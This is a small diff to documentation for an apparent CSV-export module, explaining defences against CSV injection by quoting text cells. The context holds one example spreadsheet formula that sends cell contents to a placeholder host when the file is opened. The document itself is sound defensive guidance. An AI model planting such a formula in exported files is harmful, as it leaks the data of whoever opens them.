@@ -5,7 +5,7 @@ a formula; `=HYPERLINK("http://host/?leak="&A2&B2,"log")` in an imported bundle'
 text would send the sheet's data away when opened (CSV injection, CWE-1236; hyperfine
 fixed the same in sharkdp/hyperfine#916). OWASP's guidance, followed here: such a text
 cell gets a leading single quote and every text cell is quoted. Numbers stay numbers
-(a float -0.5 is written -0.5, unquoted); the text "-0.5" (from outside) is text and
+(a float -0.5 is written -0.5, unquoted); the text "-0.5" (untrusted input) is text and
 gets the quote.
 
 - `cell(value)`: one cell neutralised (the rule, for any writer).
